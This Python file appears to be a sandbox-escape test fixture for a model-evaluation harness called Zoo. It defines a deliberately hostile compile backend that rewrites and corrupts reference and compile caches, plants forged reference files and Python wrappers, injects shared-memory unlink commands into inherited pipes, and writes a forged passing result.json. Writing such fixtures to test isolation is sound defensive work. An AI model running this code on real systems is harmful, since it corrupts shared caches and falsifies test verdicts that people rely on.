"""A hostile compile backend (``cpu+zoo_poison``): it attacks the *next* model's verdict.

When dynamo hands it its first graph, from inside the sandboxed model process (or, with
``ZOO_POISON_ON_IMPORT`` set, as soon as the model process imports it, on any backend: a
``cpu+inductor`` process is shown Zoo's shared inductor headers), it:

1. rewrites every reference-cache and compile-cache file it can reach: the caches its environment
   names, and the host paths listed in ``ZOO_POISON_TARGETS`` (colon-separated; passed with
   ``ZOO_SANDBOX_ENV``): safetensors scaled by 1.5, Python files with a wrapper appended that
   scales every output, any other file overwritten; and it plants a forged reference under the
   key named in ``ZOO_POISON_KEY`` in its outbox;
2. writes ``REGISTER:<ZOO_POISON_SHM>:shared_memory`` into every inherited pipe or socket (the
   write end of the parent's multiprocessing resource tracker would unlink that /dev/shm entry,
   as root, when Zoo exits);
3. writes its own ``result.json`` claiming a pass, with ``versions: {"torch": "9.9"}``, and exits.

What it managed is written to ``ZOO_POISON_LOG`` when that is writable (it is not, in the sandbox:
the test reads the row and the caches instead) and to stderr.
"""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

from torch._dynamo import register_backend

CACHE_VARS = (
    "ZOO_REFERENCE_CACHE",
    "TORCHINDUCTOR_CACHE_DIR",
    "TRITON_CACHE_DIR",
    "NEURON_COMPILE_CACHE_URL",
    "TORCH_NEURONX_NEFF_CACHE_DIR",
    "XLA_PERSISTENT_CACHE_PATH",
    "OPENVINO_CACHE_DIR",
    "ZOO_SHARED_HEADERS",  # inductor's precompiled headers, Zoo's build
)
WRAPPER = "\n\n_zoo_poison_call = call\ndef call(args):\n    return [o * 1.5 for o in _zoo_poison_call(args)]\n"


def _rewrite(path: Path, done: dict[str, int]) -> None:
    headers = os.environ.get("ZOO_SHARED_HEADERS")
    which = "headers_" if headers and str(path).startswith(headers.rstrip("/") + "/") else ""
    try:
        if path.suffix == ".safetensors":
            from safetensors.torch import load_file, save_file

            tensors = {k: (v * 1.5 if v.is_floating_point() else v) for k, v in load_file(str(path)).items()}
            from safetensors import safe_open

            with safe_open(str(path), framework="pt") as f:
                meta = f.metadata()
            save_file(tensors, str(path), metadata=meta)
        elif path.suffix == ".py":
            with open(path, "a") as f:
                f.write(WRAPPER)
        else:
            with open(path, "r+b") as f:
                f.write(b"\0poisoned\0")
        done[which + "rewritten"] += 1
    except Exception:
        done[which + "refused"] += 1


def poison_caches() -> dict[str, int]:
    done = {"rewritten": 0, "refused": 0, "planted": 0, "headers_rewritten": 0, "headers_refused": 0}
    roots = {os.environ.get(v, "") for v in CACHE_VARS}
    roots |= set(os.environ.get("ZOO_POISON_TARGETS", "").split(":"))
    for root in sorted(r for r in roots if r and r != "off"):
        for top in {root, str(Path(root).parent)}:
            for dirpath, _dirs, files in os.walk(top):
                for name in files:
                    p = Path(dirpath) / name
                    if not p.is_symlink() and p.is_file():
                        _rewrite(p, done)
                for target in (Path(dirpath) / "planted.py", Path(dirpath) / ("ab" * 32 + ".safetensors")):
                    try:
                        target.write_text(WRAPPER)
                        done["planted"] += 1
                    except OSError:
                        pass
    key = os.environ.get("ZOO_POISON_KEY")
    outbox = Path.cwd() / "references-out"
    if key and outbox.is_dir():  # a forged reference for another model, handed back for publishing
        import torch
        from safetensors.torch import save_file

        meta = {"keys32": [["last_hidden_state"]], "keys64": [], "same64": True, "op_census": {}, "fp64": True}
        save_file(
            {"32/0/last_hidden_state": torch.ones(2, 3)},
            str(outbox / f"{key}.safetensors"),
            metadata={"zoo": json.dumps(meta)},
        )
        done["planted"] += 1
    return done


def poison_pipes() -> int:
    name = os.environ.get("ZOO_POISON_SHM", "/zoo-poison-victim")
    line = f"REGISTER:{name}:shared_memory\n".encode()
    written = 0
    for fd_name in os.listdir("/proc/self/fd"):
        fd = int(fd_name)
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if fd > 2 and (stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)):
            try:
                os.write(fd, line)
                written += 1
            except OSError:
                pass
    return written


@register_backend
def zoo_poison(gm, example_inputs):
    attack()


def attack() -> None:
    done = poison_caches()
    done["pipes_written"] = poison_pipes()
    forged = {
        "model_id": "victim/model",
        "status": "pass",
        "metrics": {"max_abs_diff": 0.0},
        "versions": {"torch": "9.9"},
        "details": {"sandbox": {"uid": 0, "missing": []}},
    }
    (Path.cwd() / "result.json").write_text(json.dumps(forged))
    sys.stderr.write(f"ZOO-POISON {json.dumps(done)}\n")
    sys.stderr.flush()
    os._exit(0)


# as soon as a model process shown Zoo's shared headers loads its plugins (Zoo's own process, which
# imports plugins to resolve backend names, is not the one under test)
if os.environ.get("ZOO_POISON_ON_IMPORT") and os.environ.get("ZOO_SHARED_HEADERS"):
    attack()
